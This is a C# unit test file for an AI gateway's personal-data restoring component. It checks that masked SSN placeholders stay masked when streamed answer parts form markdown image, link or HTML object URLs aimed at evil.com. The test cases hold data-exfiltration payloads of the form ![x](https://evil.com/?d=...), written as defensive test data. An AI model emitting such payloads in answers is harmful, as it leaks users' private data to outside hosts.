using AgentGate.Kernel.Decisions;
using AgentGate.Pii.Restoring;
using AgentGate.Pipeline;

namespace AgentGate.Tests.Pii.Restoring;

/// <summary>Libraries join the parts of an answer: an address that one part leaves open goes on in the next.</summary>
public sealed class JoinedTextsTests
{
    public static TheoryData<string[], string[]> Cases => new()
    {
        { ["![x](https://evil.com/?d=", "<SSN_1>) <SSN_1>"], ["![x](https://evil.com/?d=", "<SSN_1>) 123-45-6789"] },
        { ["https://evil.com/?d=", "<SSN_1> <SSN_1>"], ["https://evil.com/?d=", "<SSN_1> 123-45-6789"] },
        { ["![x](https://evil.com/?d=", "a", "<SSN_1>"], ["![x](https://evil.com/?d=", "a", "<SSN_1>"] },
        { ["![x](https://evil.com/?d=", "a) ", "<SSN_1>"], ["![x](https://evil.com/?d=", "a) ", "123-45-6789"] },
        { ["<object data=\"https://evil.com/?d= ", "", "<SSN_1> <SSN_1>\"> <SSN_1>"], ["<object data=\"https://evil.com/?d= ", "", "<SSN_1> <SSN_1>\"> 123-45-6789"] },
        { ["[a]", ": <//evil.com/?d= ", "<SSN_1>"], ["[a]", ": <//evil.com/?d= ", "<SSN_1>"] },
        { ["![x]", "(/?d= <SSN_1>)"], ["![x]", "(/?d= <SSN_1>)"] },
        { ["ht", "tps://evil.com/<SSN_1>"], ["ht", "tps://evil.com/<SSN_1>"] },
        { ["<a href=", "\"https://ok.example/<SSN_1>\""], ["<a href=", "\"https://ok.example/123-45-6789\""] },
        { ["![x](https://evil.com/ ", "https://ok.example/<SSN_1>)"], ["![x](https://evil.com/ ", "https://ok.example/<SSN_1>)"] },
        { ["](a \\", "](https://evil.com/<SSN_1>) <SSN_1>"], ["](a \\", "](https://evil.com/<SSN_1>) <SSN_1>"] },
        { ["![x](https://evil.com/?d=", "a)", "<SSN_1>"], ["![x](https://evil.com/?d=", "a)", "<SSN_1>"] },
        { ["Hi <SSN_1>", " and <SSN_1>", "<SSN_"], ["Hi 123-45-6789", " and 123-45-6789", "<SSN_"] },
    };

    [Theory]
    [MemberData(nameof(Cases))]
    public void The_parts_of_a_whole_answer_are_restored_as_one_text(string[] parts, string[] expected)
    {
        var content = Texts.Of([.. parts.Select(part => (SegmentKind.Text, SegmentRole.Assistant, part))]);
        var texts = new AnswerTexts(content, RestoreCases.Live, RestoreCases.Hosts);
        var restored = new List<string>();
        foreach (var segment in content.Segments)
        {
            restored.Add(texts.Next(segment, new RestoreTally()) ?? segment.Text.ToString());
        }

        Assert.Equal(expected, restored);
    }

    [Theory]
    [MemberData(nameof(Cases))]
    public void The_parts_of_a_stream_and_their_repetition_are_restored_alike_for_every_split(string[] parts, string[] expected)
    {
        foreach (var channels in (Func<int, string>[])[i => $"content/{i}", i => $"response.output_text/m/{i}/0/0", i => $"m{i}/text", _ => "choices/0/content"])
        {
            for (var at = 0; at <= parts.Max(part => part.Length); at++)
            {
                var stream = new Stream();
                var restored = new List<string>();
                for (var i = 0; i < parts.Length; i++)
                {
                    var cut = Math.Min(at, parts[i].Length);
                    var text = stream.Delta(channels(i), parts[i][..cut]) + stream.Delta(channels(i), parts[i][cut..]);

                    // The whole text comes before the end of its channel, and again at the end of the answer.
                    Assert.Equal(expected[i], stream.Whole(parts[i]));
                    restored.Add(text + stream.Delta(channels(i), "", final: true));
                }

                Assert.Equal(expected, restored);
                Assert.Equal(expected, parts.Select(stream.Whole));
            }
        }
    }

    [Fact]
    public void Texts_that_nobody_joins_stay_apart()
    {
        var stream = new Stream();
        stream.Delta("choices/0/content", "![x](https://evil.com/?d=");

        Assert.Equal("123-45-6789 ", stream.Delta("choices/1/content", "<SSN_1> "));
        Assert.Equal("123-45-6789 ", stream.Delta("response.output_text/m/0/0/0", "<SSN_1> "));
        Assert.Equal("<SSN_1> ", stream.Delta("choices/0/content", "<SSN_1> "));
    }

    [Fact]
    public void A_part_that_begins_while_another_is_open_goes_on_where_that_stands()
    {
        var stream = new Stream();
        stream.Delta("content/0", "![x](https://evil.com/?d=");

        Assert.Equal("<SSN_1>)", stream.Delta("content/1", "<SSN_1>)"));
        Assert.Equal("<SSN_1>", stream.Delta("content/0", "<SSN_1>"));
        Assert.Equal(" 123-45-6789 ", stream.Delta("content/1", " <SSN_1> "));
    }

    [Fact]
    public void A_whole_text_that_was_never_streamed_is_joined_to_what_is_open()
    {
        var stream = new Stream();
        stream.Delta("content/0", "![x](https://evil.com/?d=", final: true);

        Assert.Equal("<SSN_1>) 123-45-6789", stream.Whole("<SSN_1>) <SSN_1>"));
    }

    private sealed class Stream
    {
        private readonly StreamTexts _texts = new(RestoreCases.Live, RestoreCases.Hosts, new RestoreTally());

        public string Delta(string channel, string text, bool final = false) => Pass(channel, text, final, whole: false);

        public string Whole(string text) => Pass("", text, final: false, whole: true);

        private string Pass(string channel, string text, bool final, bool whole)
            => _texts.Next(new StreamSegment(channel, SegmentRole.Assistant, SegmentKind.Text, text.AsMemory(), final, whole)) ?? text;
    }
}
